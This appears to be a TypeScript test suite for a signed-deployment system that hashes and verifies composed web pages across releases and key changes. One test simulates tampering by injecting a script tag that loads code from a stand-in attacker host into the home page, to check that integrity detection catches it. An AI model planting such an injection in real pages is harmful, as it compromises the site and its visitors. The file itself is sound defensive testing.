import { newPrivateKey } from 'keys/keyFiles';
import { type Deployment, deploymentHash, deploymentPath, deploymentText, signDeployment } from 'site/deployments/deployment';
import { hashesOfDocuments, verifyDocument } from 'site/deployments/documents';
import { changeKeys } from '../keys/commands.ts';
import { thisMachine } from '../keys/machine.ts';
import { heldKeys } from '../keys/signer.ts';
import { readState } from '../site/deploymentLog.ts';
import type { Site } from '../site/Site.ts';
import { buildFolder, emptySite, liveHost, releaseInfo, somePages } from '../testing/builds.ts';
import { newMachine } from '../testing/teams.ts';
import { composePages, isComposed } from './compose.ts';
import { release } from './release.ts';

async function both(site: Site): Promise<[signed: Deployment['documents'], there: Deployment['documents']]> {
  const { moves } = await readState(site);
  const files = await Promise.all(
    (await site.list('pages')).map(async (file) => ({ file, text: (await site.read(file))?.text ?? '' })),
  );
  return [moves.at(-1)?.documents, hashesOfDocuments(files)];
}

const lottery = async (site: Site, version: string) =>
  release(site, 'mfe-lottery', { from: await buildFolder(releaseInfo('mfe-lottery', { version })), provider: null });

test('every deployment signs the documents of its releases', async () => {
  const site = await emptySite();
  await liveHost(site);
  await composePages(site);
  await lottery(site, '1.0.0');
  const [signed, there] = await both(site);
  expect(Object.keys(signed ?? {}).sort()).toEqual([
    'pages/_home.html',
    'pages/_unknown.html',
    'pages/keys.json',
    'pages/live.json',
    'pages/lottery/_id.html',
    'pages/pages.json',
  ]);
  expect(there).toEqual(signed);

  await changeKeys(site, thisMachine(), {
    change: 'allow',
    name: 'team',
    publicKey: newPrivateKey().publicKey,
    apps: ['mfe-lottery'],
    owner: false,
  });
  await composePages(site);
  const [later, laterThere] = await both(site);
  expect(later).not.toEqual(signed);
  expect(laterThere).toEqual(later);
});

test('a document that was changed is composed anew by the next command, because its hash is in the move', async () => {
  const site = await emptySite();
  await liveHost(site);
  await composePages(site);
  const good = (await site.read('pages/_home.html'))?.text ?? '';
  expect(await isComposed(site, await readState(site))).toBe(true);
  await site.write('pages/_home.html', good.replace('<h1>', '<script src="https://evil.example/x.js"></script><h1>'));
  expect(await isComposed(site, await readState(site))).toBe(false);
});

test('documents of an earlier release in the place of a damaged one are signed by a move of their own', async () => {
  const site = await emptySite();
  await liveHost(site);
  const first = await lottery(site, '1.0.0');
  const second = await lottery(site, '2.0.0');
  await site.write(`mfe-lottery/${second}/NextDraw.js`, 'something else');
  await composePages(site, { say: () => {} });
  const [signed, there] = await both(site);
  expect(there).toEqual(signed);
  expect((await site.read('pages/_home.html'))?.text).toContain(`/mfe-lottery/${first}/`);
  expect((await readState(site)).moves.at(-1)).toMatchObject({ what: 'pages', apps: [] });
  await site.write(`mfe-lottery/${first}/NextDraw.js`, 'something else');
  await expect(composePages(site, { say: () => {}, machine: newMachine() })).rejects.toThrow('there is none here');
  expect((await both(site))[1]).toEqual(signed);
});

test('where nothing can be composed, a key is revoked all the same, and the documents that are there stay signed', async () => {
  const site = await emptySite();
  await liveHost(site);
  const publicKey = newPrivateKey().publicKey;
  await changeKeys(site, thisMachine(), { change: 'allow', name: 'team', publicKey, apps: ['mfe-lottery'], owner: false });
  await composePages(site);
  const [signed] = await both(site);
  await liveHost(site, { version: '2.0.0' }, somePages, 'function compose() { throw new Error("no"); }');
  const state = await changeKeys(site, thisMachine(), { change: 'revoke', name: 'team' });
  expect(state.keys.team?.revoked).toBe(true);
  expect(state.moves.at(-1)?.documents).toEqual(signed);
});

test('a site whose newest move is of a version that signed no documents is composed as it was', async () => {
  const site = await emptySite();
  await liveHost(site);
  const before = await readState(site);
  const [key] = await heldKeys(thisMachine());
  if (!key) throw new Error('The site has no owner.');
  const { documents: _none, signature: _other, keys: _same, ...last } = before.moves.at(-1) as Deployment;
  const move = signDeployment(
    { ...last, revision: before.revision + 1, previous: before.head, what: 'keys', apps: [], keys: [] },
    key,
  );
  await site.create(deploymentPath(move.revision), deploymentText(move));
  await composePages(site);
  const state = await readState(site);
  expect([state.revision, state.head]).toEqual([before.revision + 1, deploymentHash(deploymentText(move))]);
  const text = (await site.read('pages/_home.html'))?.text ?? '';
  expect(verifyDocument(state, { file: 'pages/_home.html', text }).kind).toBe('unsigned');
  await lottery(site, '1.0.0');
  const [signed, there] = await both(site);
  expect(there).toEqual(signed);
  expect(verifyDocument(await readState(site), { file: 'pages/_home.html', text }).kind).toBe('refused');
});

test('an earlier document is one until a newer one was sent', async () => {
  const site = await emptySite();
  await liveHost(site);
  await composePages(site);
  const old = { file: 'pages/_home.html', text: (await site.read('pages/_home.html'))?.text ?? '' };
  await lottery(site, '1.0.0');
  const state = await readState(site);
  expect(verifyDocument(state, old)).toEqual({ kind: 'signed', revision: 1 });
  expect(verifyDocument(state, old, 2)).toMatchObject({ kind: 'refused' });
  expect(verifyDocument(state, { ...old, text: old.text.replace('<h1>', '<h2>') })).toMatchObject({ kind: 'refused' });
});
